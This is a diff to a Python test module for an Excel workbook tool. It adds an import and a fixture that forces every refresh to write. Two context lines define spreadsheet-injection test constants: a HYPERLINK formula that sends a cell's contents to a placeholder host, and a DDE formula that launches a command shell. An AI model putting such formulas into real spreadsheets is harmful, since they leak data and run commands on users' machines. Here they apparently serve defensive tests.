@@ -28,7 +28,12 @@ from ascent_xl.excel.book import Formula, OpenpyxlBook, XlwingsBook, put
 from ascent_xl.excel.refresh import refresh_book
 from ascent_xl.excel.safety import MAX_CELLS_ENV, count_cells
 from ascent_xl.excel.template import build_template, entry_module_text
-from ascent_xl.excel.workbook_io import check_module_name, new_deal_book, refresh_file
+from ascent_xl.excel.workbook_io import (
+    FULL_REFRESH_ENV,
+    check_module_name,
+    new_deal_book,
+    refresh_file,
+)
 from ascent_xl.fileio import (
     FileBusyError,
     FileChangedError,
@@ -42,6 +47,13 @@ from tests.helpers.books import copy_book, load, table_records
 from tests.helpers.fake_xlwings import FakeBook
 
 _register()
+
+
+@pytest.fixture(autouse=True)
+def _full_refresh(monkeypatch):
+    """These tests are about what a refresh writes: every refresh writes (a book whose results
+    are current is otherwise left as it is; tests/excel/test_refresh_unchanged.py)."""
+    monkeypatch.setenv(FULL_REFRESH_ENV, "1")
 
 HOSTILE = '=HYPERLINK("http://x"&Inputs!B10)'
 CMD = "=cmd|' /C calc'!A0"
